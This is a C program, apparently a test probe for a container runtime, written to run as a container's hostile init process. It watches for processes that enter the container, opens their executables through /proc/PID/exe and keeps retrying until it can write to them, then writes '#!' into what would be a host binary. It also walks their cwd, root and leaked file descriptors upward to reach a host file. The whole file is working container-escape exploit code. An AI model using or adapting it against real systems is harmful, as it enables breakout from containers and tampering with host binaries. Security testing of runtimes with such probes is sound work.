/*
 * The first process of a container, and hostile: looks at every process that appears beside it, takes hold of its binary
 * (/proc/PID/exe) and of its directories (/proc/PID/fd, cwd, root), tries to write to the one later, and to reach a file of the
 * host by the others. Each line that it prints is one success of that kind. Arguments: the path of the host's file, without /.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_HANDLES 256

static int handles[MAX_HANDLES], refused[MAX_HANDLES], count;
static struct stat own, image;
static const char *canary;

static int same(const struct stat *a, const struct stat *b) {
	return a->st_ino == b->st_ino && a->st_size == b->st_size;
}

static void grab_exe(const char *pid) {
	char path[64];
	struct stat st;
	snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) return;
	if (fstat(fd, &st) || same(&st, &own) || same(&st, &image) || count == MAX_HANDLES) {
		close(fd);
		return;
	}
	handles[count++] = fd;
	printf("exe of %s\n", pid);
}

/* A directory of the host leads to the host's root by enough steps up. */
static void try_directory(const char *path) {
	char up[4096] = "";
	for (int i = 0; i < 40; i++) strcat(up, "../");
	strncat(up, canary, sizeof up - strlen(up) - 1);
	int dir = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (dir < 0) return;
	printf("directory %s\n", path);
	int found = openat(dir, up, O_RDONLY | O_CLOEXEC);
	if (found >= 0) {
		printf("HOST by %s\n", path);
		close(found);
	}
	close(dir);
}

static void walk_descriptors(const char *pid) {
	char path[64], entry_path[128];
	static const char *const links[] = {"cwd", "root"};
	for (unsigned i = 0; i < 2; i++) {
		snprintf(path, sizeof path, "/proc/%.20s/%s", pid, links[i]);
		try_directory(path);
	}
	snprintf(path, sizeof path, "/proc/%.20s/fd", pid);
	DIR *dir = opendir(path);
	if (!dir) return;
	for (struct dirent *entry; (entry = readdir(dir));) {
		if (entry->d_name[0] == '.') continue;
		snprintf(entry_path, sizeof entry_path, "%s/%.20s", path, entry->d_name);
		try_directory(entry_path);
	}
	closedir(dir);
}

/* While the file is executed this is ETXTBSY: it is tried again and again. */
static void write_to_handles(void) {
	char path[64];
	for (int i = 0; i < count; i++) {
		snprintf(path, sizeof path, "/proc/self/fd/%d", handles[i]);
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0) {
			printf("WRITTEN %d\n", i);
			if (write(fd, "#!", 2) < 0) perror("write");
			close(fd);
		} else if (errno != ETXTBSY && !refused[i]) {
			refused[i] = 1;
			printf("refused %s\n", strerrorname_np(errno));
		}
	}
}

int main(int argc, char **argv) {
	canary = argc > 1 ? argv[1] : "";
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (stat("/proc/self/exe", &own) || stat("/bin/busybox", &image)) return 1;
	puts("ready");
	for (;;) {
		DIR *proc = opendir("/proc");
		if (!proc) return 1;
		for (struct dirent *entry; (entry = readdir(proc));) {
			if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || !strcmp(entry->d_name, "1")) continue;
			grab_exe(entry->d_name);
			walk_descriptors(entry->d_name);
		}
		closedir(proc);
		write_to_handles();
		usleep(200);
	}
}
